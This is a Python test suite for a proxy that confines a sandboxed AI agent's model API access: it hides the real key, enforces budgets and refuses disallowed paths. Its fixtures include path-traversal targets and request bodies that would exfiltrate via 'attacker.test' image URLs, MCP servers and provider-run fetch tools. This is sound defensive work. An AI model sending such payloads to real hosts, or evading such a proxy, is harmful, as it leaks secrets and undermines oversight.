"""The model proxy between a client with a placeholder key and a scripted upstream."""

from __future__ import annotations

import json
import os
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import anyio.abc
import anyio.lowlevel
import httpx2
import pytest
from claude_agent_sdk import ClaudeAgentOptions, ClaudeSDKClient, ResultMessage
from starlette.requests import Request
from starlette.responses import RedirectResponse
from starlette.types import Receive, Scope, Send

from gloveport.agents.model_api import TokenUsage
from gloveport.agents.model_budget import ModelBudget
from gloveport.agents.model_prices import LIST_PRICES, Price, PriceList
from gloveport.agents.model_proxy import Credential, ModelCall, ModelProxy, ModelProxySpec, serve_model_proxy
from gloveport.agents.model_rules import ModelRules
from gloveport.agents.serving import serve_app, tcp_listener
from gloveport.testing import Fail, Gate, ScriptedModel, Text, serve
from gloveport.testing.claude_code import PLACEHOLDER_KEY, claude_code_variables

PATIENCE_S = 60
REAL_KEY = "sk-ant-the-real-one"
USER = {"role": "user", "content": "Repair the parser."}
CREDENTIAL = Credential.api_key(REAL_KEY)


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@dataclass
class Guest:
    """A client on the proxy's socket, as a jailed process is, and what the host was told of its calls."""

    client: httpx2.AsyncClient
    proxy: ModelProxy
    calls: list[ModelCall] = field(default_factory=list)

    async def post(self, body: object, path: str = "/v1/messages?beta=true") -> httpx2.Response:
        return await self.client.post(path, json=body)


@asynccontextmanager
async def guest_of(spec: ModelProxySpec, tmp_path: Path) -> AsyncIterator[Guest]:
    socket = tmp_path / "model.sock"
    calls: list[ModelCall] = []
    async with (
        serve_model_proxy(socket, spec, on_call=calls.append) as proxy,
        httpx2.AsyncClient(
            base_url="http://localhost",
            transport=httpx2.AsyncHTTPTransport(uds=str(socket)),
            headers={"x-api-key": PLACEHOLDER_KEY, "cookie": "a=b", "anthropic-version": "2023-06-01"},
            timeout=PATIENCE_S,
        ) as client,
    ):
        yield Guest(client, proxy, calls)


def ask(**changes: Any) -> dict[str, Any]:
    return {"model": "claude-test", "max_tokens": 100, "messages": [USER]} | changes


def error_of(response: httpx2.Response) -> tuple[int, str, str]:
    document = response.json()
    assert document["type"] == "error"
    return response.status_code, document["error"]["type"], document["error"]["message"]


@pytest.mark.parametrize(
    ("credential", "header", "value"),
    [
        (Credential.api_key(REAL_KEY), "x-api-key", REAL_KEY),
        (Credential.auth_token(REAL_KEY), "authorization", f"Bearer {REAL_KEY}"),
    ],
)
async def test_the_upstream_sees_only_the_real_key_and_the_guest_only_its_placeholder(
    tmp_path: Path, credential: Credential, header: str, value: str
) -> None:
    async with serve(ScriptedModel.of((Text("yes"),))) as upstream:
        spec = ModelProxySpec(upstream=upstream.url, credential=credential)
        async with guest_of(spec, tmp_path) as guest:
            response = await guest.client.post(
                "/v1/messages?beta=true",
                json=ask(),
                headers={"authorization": "Bearer placeholder", "proxy-authorization": "Basic eA=="},
            )
    (turn,) = upstream.turns
    assert turn.headers[header] == value
    assert turn.headers["anthropic-version"] == "2023-06-01"
    credentials = {"x-api-key", "authorization", "proxy-authorization", "cookie"} & turn.headers.keys()
    assert credentials == {header}
    assert "placeholder" not in str(turn.headers)
    assert response.json()["content"] == [{"type": "text", "text": "yes"}]
    assert REAL_KEY not in str(response.headers) + response.text
    assert REAL_KEY not in repr(spec) + repr(guest.calls)


async def test_its_socket_is_for_its_owner_only_and_is_gone_at_the_end(tmp_path: Path) -> None:
    async with guest_of(ModelProxySpec(upstream="http://127.0.0.1:9", credential=CREDENTIAL), tmp_path):
        assert (tmp_path / "model.sock").stat().st_mode & 0o777 == 0o600
    assert not (tmp_path / "model.sock").exists()


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/v1/messages"),
        ("GET", "/v1/models"),
        ("POST", "/v1/files"),
        ("POST", "/v1/messages/batches"),
        ("POST", "/v1/messages/"),
        ("POST", "//v1/messages"),
        ("POST", "/v1/messages/../files"),
        ("POST", "/v1/messages/%2e%2e/files"),
        ("POST", "/v1/messages/count_tokens%3f"),
        ("CONNECT", "/v1/messages"),
    ],
)
async def test_anything_but_messages_and_their_count_is_forbidden(tmp_path: Path, method: str, path: str) -> None:
    async with (
        serve(ScriptedModel.of((Text("never"),))) as upstream,
        guest_of(ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL), tmp_path) as guest,
    ):
        # The target goes out as it is written: a client's own tidying would hide the attack.
        request = guest.client.build_request(method, "/", content=json.dumps(ask()))
        request.extensions["target"] = path.encode()
        response = await guest.client.send(request)
    assert error_of(response)[:2] == (403, "permission_error")
    assert upstream.requests == []
    assert guest.calls[0].refusal


@pytest.mark.parametrize("host", ["localhost/v1/messages?", "[", "a b"])
async def test_a_host_header_does_not_change_which_path_is_judged(tmp_path: Path, host: str) -> None:
    async with (
        serve(ScriptedModel.of((Text("never"),))) as upstream,
        guest_of(ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL), tmp_path) as guest,
    ):
        response = await guest.client.post("/v1/files", json=ask(), headers={"host": host})
    assert error_of(response)[:2] == (403, "permission_error")
    assert upstream.requests == []


async def test_odd_bytes_in_query_and_headers_neither_pass_nor_break_it(tmp_path: Path) -> None:
    async with (
        serve(ScriptedModel.of((Text("yes"),))) as upstream,
        guest_of(ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL), tmp_path) as guest,
    ):
        odd_query = guest.client.build_request("POST", "/", json=ask())
        odd_query.extensions["target"] = b"/v1/messages?beta=true|#x"
        refused = await guest.client.send(odd_query)
        odd_header = await guest.client.post(
            "/v1/messages", json=ask(), headers=[(b"anthropic-beta", b"\xff"), (b"x-app", b"cli")]
        )
    assert error_of(refused)[:2] == (400, "invalid_request_error")
    assert odd_header.status_code == 200
    (turn,) = upstream.turns
    assert "anthropic-beta" not in turn.headers
    assert turn.headers["x-app"] == "cli"


async def test_token_counts_are_forwarded_as_calls_that_cost_nothing(tmp_path: Path) -> None:
    async with serve(ScriptedModel.of()) as upstream:
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, budget=ModelBudget(calls=1))
        async with guest_of(spec, tmp_path) as guest:
            response = await guest.post(ask(), "/v1/messages/count_tokens")
    assert response.json()["input_tokens"] > 0
    assert (guest.proxy.spend.calls, guest.proxy.spend.tokens) == (1, 0)


async def test_a_model_off_the_allow_list_is_refused_by_name(tmp_path: Path) -> None:
    async with serve(ScriptedModel.of((Text("yes"),))) as upstream:
        rules = ModelRules(models=frozenset({"claude-small"}))
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, rules=rules)
        async with guest_of(spec, tmp_path) as guest:
            refused = await guest.post(ask(model="claude-large"))
            counted = await guest.post(ask(model="claude-large"), "/v1/messages/count_tokens")
            allowed = await guest.post(ask(model="claude-small"))
    status, kind, message = error_of(refused)
    assert (status, kind) == (403, "permission_error")
    assert "claude-large" in message
    assert counted.status_code == 403
    assert allowed.status_code == 200
    assert [turn.model for turn in upstream.turns] == ["claude-small"]


@pytest.mark.parametrize(
    "body",
    [
        b'{"model": "claude-small", "model": "claude-large", "messages": []}',
        b'{"model": "claude-small\\n", "messages": []}',
        b'{"model": ["claude-small"], "messages": []}',
        b'{"messages": []}',
        b'["claude-small"]',
        b'{"model": "claude-small"',
        "{}".encode("utf-16"),
        b"[" * 100_000,
        b"",
    ],
)
async def test_a_body_that_could_be_read_in_two_ways_or_none_never_reaches_the_upstream(
    tmp_path: Path, body: bytes
) -> None:
    async with serve(ScriptedModel.of((Text("never"),))) as upstream:
        rules = ModelRules(models=frozenset({"claude-small", "claude-large"}))
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, rules=rules)
        async with guest_of(spec, tmp_path) as guest:
            response = await guest.client.post("/v1/messages", content=body)
    assert error_of(response)[:2] == (400, "invalid_request_error")
    assert upstream.requests == []


URL_IMAGE = {"type": "image", "source": {"type": "url", "url": "https://attacker.test/?secret"}}
JOINING = {"type": "tool_addition", "tool": {"type": "tool_definition", "definition": {"type": "oracle", "name": "o"}}}
REMOTE = [
    {"mcp_servers": [{"type": "url", "url": "https://attacker.test", "name": "x"}]},
    {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    {"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]},
    {"messages": [{"role": "user", "content": [URL_IMAGE]}]},
    {"messages": [{"role": "user", "content": [{"type": "tool_result", "content": [URL_IMAGE]}]}]},
    {"messages": [{"role": "system", "tools": [{"type": "web_search_20250305", "name": "web_search"}]}]},
    {"tools": [{"type": "web_search_v2", "name": "web_search"}]},
    {"tools": [{"type": "oracle"}]},
    {"tools": [{"type": ["custom"], "name": "x"}]},
    {"tools": [{"type": "bash_20250124/../web_fetch_20250910", "name": "bash"}]},
    {"tools": {"type": "code_execution_20250825", "name": "code_execution"}},
    {"messages": [{"role": "system", "content": [JOINING]}]},
    {"container": {"skills": [{"type": "anthropic", "skill_id": "pdf"}]}},
]


@pytest.mark.parametrize("changes", REMOTE)
async def test_exfil_through_what_the_provider_fetches_or_runs_is_refused(
    tmp_path: Path, changes: dict[str, Any]
) -> None:
    async with serve(ScriptedModel.of((Text("fetched"),))) as upstream:
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL)
        async with guest_of(spec, tmp_path) as guest:
            refused = await guest.post(ask(**changes))
        assert error_of(refused)[:2] == (403, "permission_error")
        assert upstream.requests == []

        # The counter-arm: with the guard off the same request gets through.
        unguarded = ModelProxySpec(
            upstream=upstream.url, credential=CREDENTIAL, rules=ModelRules(allow_remote_tools=True)
        )
        async with guest_of(unguarded, tmp_path) as guest:
            assert (await guest.post(ask(**changes))).status_code == 200


async def test_tools_that_the_client_runs_and_arguments_that_mention_urls_pass(tmp_path: Path) -> None:
    tools = [
        {"name": "Bash", "input_schema": {"type": "object", "properties": {"type": {"type": "string"}}}},
        {"type": "custom", "name": "Read", "input_schema": {"type": "object"}},
        {"type": "bash_20250124", "name": "bash"},
        {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
    ]
    call = {
        "type": "tool_use",
        "id": "t",
        "name": "Get",
        "input": {"type": "url", "url": "https://example.test"},
    }
    edits = {"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]}
    body = ask(tools=tools, messages=[USER, {"role": "user", "content": [call]}], context_management=edits)
    async with (
        serve(ScriptedModel.of((Text("yes"),))) as upstream,
        guest_of(ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL), tmp_path) as guest,
    ):
        assert (await guest.post(body)).status_code == 200
    assert upstream.turns[0].body == body


PRICES = PriceList({"claude-test": Price(input=1e4, output=1e4, cache_write=1e4, cache_read=1e4)})


@pytest.mark.parametrize(
    ("budget", "named"),
    [
        (ModelBudget(calls=1), "1 of 1 calls"),
        (ModelBudget(tokens=1), "of 1 tokens"),
        (ModelBudget(cost=0.001, prices=PRICES), "of $0.0010"),
    ],
)
@pytest.mark.parametrize("stream", [True, False])
async def test_a_used_up_budget_is_named_and_nothing_more_is_forwarded(
    tmp_path: Path, budget: ModelBudget, named: str, stream: bool
) -> None:
    async with serve(ScriptedModel.of((Text("yes"),))) as upstream:
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, budget=budget)
        async with guest_of(spec, tmp_path) as guest:
            first = await guest.post(ask(stream=stream))
            second = await guest.post(ask(stream=stream))
    assert first.status_code == 200
    status, kind, message = error_of(second)
    assert (status, kind) == (402, "billing_error")
    assert named in message
    assert len(upstream.turns) == 1


async def test_a_model_without_a_price_counts_as_the_dearest_and_has_no_cost_figure(tmp_path: Path) -> None:
    async with serve(ScriptedModel.of((Text("yes"),))) as upstream:
        budget = ModelBudget(cost=0.001, prices=PRICES)
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, budget=budget)
        async with guest_of(spec, tmp_path) as guest:
            await guest.post(ask(model="claude-unpriced"))
            refused = await guest.post(ask(model="claude-unpriced"))
    assert error_of(refused)[:2] == (402, "billing_error")
    assert "without a known price" in error_of(refused)[2]
    spend = guest.proxy.spend
    assert (spend.cost, spend.unpriced_tokens) == (0.0, spend.tokens)
    assert spend.charged == pytest.approx(spend.tokens / 100)
    assert guest.calls[0].cost is None


def test_a_price_knows_dated_names_long_prompts_and_what_the_cache_keeps_for_an_hour() -> None:
    prices = PriceList()
    million = 1_000_000
    assert prices.cost("claude-sonnet-4-5-20250929", TokenUsage(input=million)) == 3.0
    assert prices.cost("claude-haiku-5-5", TokenUsage(input=100_000)) == pytest.approx(0.01)
    assert prices.cost("claude-haiku-5-5", TokenUsage(input=100_001)) == pytest.approx(0.05, rel=1e-4)
    seen = TokenUsage().updated(
        {"cache_creation_input_tokens": 2 * million, "cache_creation": {"ephemeral_1h_input_tokens": million}}
    )
    assert prices.cost("claude-opus-4-8", seen) == pytest.approx(6.25 + 10)
    assert prices.cost("claude-opus-4-8-of-another", seen) is None
    assert prices.dearest(seen) == max(price.cost(seen) for price in LIST_PRICES.values()) == pytest.approx(18.75 + 30)


async def test_the_tokens_of_an_answer_count_while_it_still_comes_in(tmp_path: Path) -> None:
    gate = Gate()
    budget = ModelBudget(cost=1.0, prices=PRICES)
    with anyio.fail_after(PATIENCE_S):
        async with serve(ScriptedModel.of((Text("a long story " * 100), gate, Text("the end")))) as upstream:
            spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, budget=budget)
            async with guest_of(spec, tmp_path) as guest, anyio.create_task_group() as tasks:
                tasks.start_soon(guest.post, ask(stream=True))
                await gate.reached()
                refused = await guest.post(ask())
                gate.open()
    assert error_of(refused)[:2] == (402, "billing_error")
    assert len(upstream.turns) == 1


async def test_after_too_many_refusals_nothing_more_is_forwarded_or_reported(tmp_path: Path) -> None:
    async with serve(ScriptedModel.of((Text("never"),))) as upstream:
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, max_refusals=3)
        async with guest_of(spec, tmp_path) as guest:
            reasons: list[str] = []
            guest.proxy.on_shut = reasons.append
            for _ in range(5):
                assert (await guest.post(ask(), "/v1/files")).status_code == 403
            assert (await guest.post(ask())).status_code == 403
    assert len(guest.calls) == 3
    (reason,) = reasons
    assert reason.startswith("3 requests")
    assert upstream.requests == []


async def test_a_guest_cannot_take_the_hosts_descriptors_with_connections(tmp_path: Path) -> None:
    async with serve(ScriptedModel.of((Text("yes"),))) as upstream:
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL)
        async with guest_of(spec, tmp_path) as guest:
            with anyio.fail_after(PATIENCE_S):
                async with AsyncExitStack() as stack:
                    before = len(list(Path("/proc/self/fd").iterdir()))
                    for _ in range(300):
                        connection = await anyio.connect_unix(tmp_path / "model.sock")
                        await stack.enter_async_context(connection)
                    with pytest.raises((anyio.EndOfStream, anyio.BrokenResourceError)):
                        await connection.receive()
                    ours = len(list(Path("/proc/self/fd").iterdir())) - before - 300
                    assert 0 < ours <= 64 + 16 + 1
                while (await guest.post(ask())).status_code != 200:
                    await anyio.lowlevel.checkpoint()


@pytest.mark.parametrize("status", [200, 401])
async def test_an_upstream_that_repeats_the_key_does_not_show_it_to_the_guest(tmp_path: Path, status: int) -> None:
    async def indiscreet(scope: Scope, receive: Receive, send: Send) -> None:
        await Request(scope, receive).body()
        headers = [(b"content-type", b"application/json"), (b"request-id", REAL_KEY.encode())]
        await send({"type": "http.response.start", "status": status, "headers": headers})
        said = f'{{"error": "bad key {REAL_KEY}", "again": "{REAL_KEY[:9]}"}}{REAL_KEY[:5]}'.encode()
        for start in range(0, len(said), 7):
            await send({"type": "http.response.body", "body": said[start : start + 7], "more_body": True})
        await send({"type": "http.response.body", "body": b"", "more_body": False})

    with tcp_listener("127.0.0.1", 0) as listener:
        async with serve_app(indiscreet, listener):
            spec = ModelProxySpec(upstream=f"http://127.0.0.1:{listener.getsockname()[1]}", credential=CREDENTIAL)
            async with guest_of(spec, tmp_path) as guest:
                response = await guest.post(ask())
    assert response.status_code == status
    assert response.text == f'{{"error": "bad key [redacted]", "again": "{REAL_KEY[:9]}"}}{REAL_KEY[:5]}'
    assert response.headers["request-id"] == "[redacted]"


@pytest.mark.parametrize("stream", [True, False])
async def test_each_call_is_reported_with_the_upstreams_own_token_count(tmp_path: Path, stream: bool) -> None:
    async with serve(ScriptedModel.of((Text("yes" * 50),))) as upstream:
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, budget=ModelBudget(prices=PRICES))
        async with guest_of(spec, tmp_path) as guest:
            response = await guest.post(ask(stream=stream))
            plain = await guest.post(ask())
            await guest.post(ask(), "/v1/models")

    call, _, refused = guest.calls
    usage = plain.json()["usage"]
    assert call.usage is not None
    assert call.usage.output == usage["output_tokens"] > 1
    assert call.usage.input > 0
    assert call.cost == pytest.approx(call.usage.total / 100)
    assert (call.path, call.model, call.status, call.complete) == ("/v1/messages", "claude-test", 200, True)
    assert call.response_bytes == len(response.content)
    assert call.request_bytes == len(response.request.content)
    assert call.duration > 0
    assert (refused.status, refused.usage, refused.model) == (403, None, None)
    assert guest.proxy.spend.tokens == sum(c.usage.total for c in guest.calls if c.usage)


async def test_a_stream_passes_through_as_it_comes(tmp_path: Path) -> None:
    gate = Gate()
    with anyio.fail_after(PATIENCE_S):
        async with serve(ScriptedModel.of((Text("early"), gate, Text("late")))) as upstream:
            spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL)
            async with (
                guest_of(spec, tmp_path) as guest,
                guest.client.stream("POST", "/v1/messages", json=ask(stream=True)) as response,
            ):
                seen = ""
                async for chunk in response.aiter_text():
                    seen += chunk
                    # A proxy that buffers would not let us see this before the gate is opened.
                    if "early" in seen:
                        gate.open()
    assert "late" in seen
    assert seen.endswith("\n\n")


async def test_a_guest_that_leaves_ends_the_upstream_call_and_pays_for_what_it_heard(tmp_path: Path) -> None:
    gate = Gate()
    with anyio.fail_after(PATIENCE_S):
        async with serve(ScriptedModel.of((Text("a long story " * 100), gate, Text("late")))) as upstream:
            spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL)
            async with guest_of(spec, tmp_path) as guest:
                async with guest.client.stream("POST", "/v1/messages", json=ask(stream=True)) as response:
                    async for chunk in response.aiter_text():
                        if "content_block_stop" in chunk:
                            break
                    await gate.reached()
                await gate.abandoned()
    (call,) = guest.calls
    assert not call.complete
    assert call.usage is not None
    assert call.usage.output >= 300, "hanging up before the final count must not make the tokens free"


async def test_the_end_of_the_proxy_ends_open_calls_and_reports_them(tmp_path: Path) -> None:
    gate = Gate()
    calls: list[ModelCall] = []
    socket = tmp_path / "model.sock"
    with anyio.fail_after(PATIENCE_S):
        async with (
            serve(ScriptedModel.of((gate, Text("never")))) as upstream,
            httpx2.AsyncClient(
                base_url="http://localhost", transport=httpx2.AsyncHTTPTransport(uds=str(socket))
            ) as client,
        ):
            spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL)
            async with serve_model_proxy(socket, spec, on_call=calls.append):
                request = client.build_request("POST", "/v1/messages", json=ask(stream=True))
                response = await client.send(request, stream=True)
                await gate.reached()
            assert [call.complete for call in calls] == [False]
            await gate.abandoned()
            with pytest.raises(httpx2.RemoteProtocolError):
                await response.aread()
            await response.aclose()


async def test_an_upstream_that_breaks_off_is_not_made_to_look_finished(tmp_path: Path) -> None:
    gate, broken = Gate(), anyio.Event()

    async def upstream(*, task_status: anyio.abc.TaskStatus[str]) -> None:
        async with serve(ScriptedModel.of((gate, Text("never")))) as endpoint:
            task_status.started(endpoint.url)
            await broken.wait()

    with anyio.fail_after(PATIENCE_S):
        async with anyio.create_task_group() as tasks:
            spec = ModelProxySpec(upstream=await tasks.start(upstream), credential=CREDENTIAL)
            async with guest_of(spec, tmp_path) as guest:
                request = guest.client.build_request("POST", "/v1/messages", json=ask(stream=True))
                response = await guest.client.send(request, stream=True)
                await gate.reached()
                broken.set()
                with pytest.raises(httpx2.RemoteProtocolError):
                    await response.aread()
                await response.aclose()
    (call,) = guest.calls
    assert (call.status, call.complete) == (200, False)


async def test_errors_of_the_upstream_pass_through_and_cost_no_tokens(tmp_path: Path) -> None:
    async with (
        serve(ScriptedModel.of(Fail(529, "overloaded_error", "Overloaded"))) as upstream,
        guest_of(ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL), tmp_path) as guest,
    ):
        response = await guest.post(ask())
    assert error_of(response) == (529, "overloaded_error", "Overloaded")
    assert guest.proxy.spend.tokens == 0
    assert guest.calls[0].refusal is None


async def test_an_upstream_that_is_not_there_is_a_502_without_its_address(tmp_path: Path) -> None:
    async with serve(ScriptedModel.of()) as gone:
        url = gone.url
    async with guest_of(ModelProxySpec(upstream=url, credential=CREDENTIAL), tmp_path) as guest:
        response = await guest.post(ask())
    status, kind, message = error_of(response)
    assert (status, kind) == (502, "api_error")
    assert "127.0.0.1" not in message
    assert guest.calls[0].status == 502


async def test_a_redirect_is_neither_followed_nor_passed_on(tmp_path: Path) -> None:
    async with serve(ScriptedModel.of((Text("never"),))) as elsewhere:

        async def redirect(scope: Scope, receive: Receive, send: Send) -> None:
            await RedirectResponse(elsewhere.url + "/v1/messages")(scope, receive, send)

        with tcp_listener("127.0.0.1", 0) as listener:
            async with serve_app(redirect, listener):
                spec = ModelProxySpec(upstream=f"http://127.0.0.1:{listener.getsockname()[1]}", credential=CREDENTIAL)
                async with guest_of(spec, tmp_path) as guest:
                    response = await guest.post(ask())
    assert error_of(response)[0] == 502
    assert "location" not in response.headers
    assert elsewhere.requests == []


async def test_a_body_over_the_bound_is_refused_before_it_is_all_read(tmp_path: Path) -> None:
    async with serve(ScriptedModel.of((Text("never"),))) as upstream:
        spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, max_body_bytes=1000)
        async with guest_of(spec, tmp_path) as guest:
            response = await guest.post(ask(system="x" * 1000))
    assert error_of(response)[:2] == (413, "request_too_large")
    assert upstream.requests == []


async def test_calls_beyond_the_concurrent_bound_wait_for_their_turn(tmp_path: Path) -> None:
    gate = Gate()
    with anyio.fail_after(PATIENCE_S):
        async with serve(ScriptedModel.of((gate, Text("yes")))) as upstream:
            spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, max_concurrent_calls=1)
            async with guest_of(spec, tmp_path) as guest, anyio.create_task_group() as tasks:
                for _ in range(3):
                    tasks.start_soon(guest.post, ask())
                await gate.reached()
                assert len(upstream.turns) == 1
                gate.open()
    assert len(upstream.turns) == 3


async def test_the_real_command_line_works_through_the_socket_and_stops_at_once_when_the_budget_is_used_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in [name for name in os.environ if name.startswith(("ANTHROPIC_", "CLAUDE"))]:
        monkeypatch.delenv(name)
    results: list[ResultMessage] = []
    with anyio.fail_after(PATIENCE_S):
        async with serve(ScriptedModel.of((Text("All is well."),), (Text("Still."),))) as upstream:
            spec = ModelProxySpec(upstream=upstream.url, credential=CREDENTIAL, budget=ModelBudget(calls=1))
            async with guest_of(spec, tmp_path) as guest:
                variables = claude_code_variables(
                    tmp_path / "home", url="http://localhost", uds=tmp_path / "model.sock"
                )
                kit = ClaudeAgentOptions(cwd=tmp_path, env=dict(variables), tools=[], setting_sources=[])
                async with ClaudeSDKClient(kit) as session:
                    for prompt in ("How is it?", "And now?"):
                        await session.query(prompt)
                        results += [m async for m in session.receive_response() if isinstance(m, ResultMessage)]

    answered, refused = results
    assert (answered.is_error, answered.result) == (False, "All is well.")
    assert refused.is_error
    assert "model budget of this sandbox is used up: 1 of 1 calls" in (refused.result or "")
    assert [call.status for call in guest.calls] == [200, 402], "the command line must not retry"
    assert [turn.headers["x-api-key"] for turn in upstream.turns] == [REAL_KEY]
